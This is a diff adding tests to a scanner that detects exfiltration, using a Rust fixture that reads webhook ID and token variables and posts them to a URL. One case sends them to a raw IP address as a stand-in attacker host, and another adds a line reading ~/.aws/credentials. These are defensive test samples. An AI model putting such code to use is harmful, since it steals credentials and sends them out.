@@ -346,6 +346,42 @@ describe('configured endpoints', () => {
     expect(worst(r, 'flow.exfiltration')).toBe('high');
   });
 
+  const hook = (host: string, extra = '') =>
+    lib('hookx', {
+      'src/lib.rs': [
+        'pub struct Hook { url: String }',
+        'impl Hook {',
+        '    pub fn from_env() -> Option<Hook> {',
+        '        let id = std::env::var("HOOK_ID").ok()?;',
+        '        let token = std::env::var("HOOK_TOKEN").ok()?;',
+        extra,
+        `        Some(Hook { url: format!("${host}/{id}/{token}") })`,
+        '    }',
+        '    pub fn post(&self, msg: &str) { let _ = ureq::post(&self.url).send_string(msg); }',
+        '}',
+      ].join('\n'),
+    });
+
+  it("a webhook's own id and token, read from variables named for it and sent to the messenger, stay below high", async () => {
+    const r = await scanFiles(hook('https://discord.com/api/webhooks'));
+    expect(high(r)).toBe(false);
+  });
+
+  it('the same variables sent to a raw address are still exfiltration at high or above', async () => {
+    const r = await scanFiles(hook('http://203.0.113.9/h'));
+    expect(high(r)).toBe(true);
+  });
+
+  it('cloud credentials read beside the hook token and sent to the same messenger are high or above', async () => {
+    const r = await scanFiles(
+      hook(
+        'https://discord.com/api/webhooks',
+        '        let _aws = std::fs::read_to_string("/home/u/.aws/credentials").ok()?;',
+      ),
+    );
+    expect(high(r)).toBe(true);
+  });
+
   it('the same token sent to a hard-coded webhook of another service is critical', async () => {
     const r = await scanFiles(telegram('https://discord.com/api/webhooks/000/FAKE_TOKEN_FOR_TESTS_ONLY?{}'));
     expect(worst(r, 'code.exfiltration')).toBe('critical');
